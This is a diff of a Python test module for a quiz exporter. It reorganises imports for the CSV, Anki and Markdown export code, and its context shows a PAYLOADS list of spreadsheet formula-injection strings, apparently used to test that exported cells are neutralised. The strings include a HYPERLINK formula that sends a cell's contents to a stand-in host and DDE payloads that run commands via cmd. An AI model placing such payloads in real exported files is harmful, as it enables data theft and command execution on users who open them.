@@ -19,11 +19,11 @@ from hypothesis import assume, given
 from hypothesis import strategies as st
 from markdown_it import MarkdownIt
 
-from quiz import export
-from quiz.anki_export import FIELDS, write_apkg
-from quiz.bank import load_bank
-from quiz.csv_export import FORMULA_STARTS, anki_cell, spreadsheet_cell, write_csv
-from quiz.markdown_export import _BULLET, block, code_span, write_markdown
+from quiz.bank.reader import load_bank
+from quiz.export import selection as export
+from quiz.export.apkg import FIELDS, write_apkg
+from quiz.export.markdown import _BULLET, block, code_span, write_markdown
+from quiz.export.spreadsheet import FORMULA_STARTS, anki_cell, spreadsheet_cell, write_csv
 
 PAYLOADS = [
     '=HYPERLINK("http://x.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
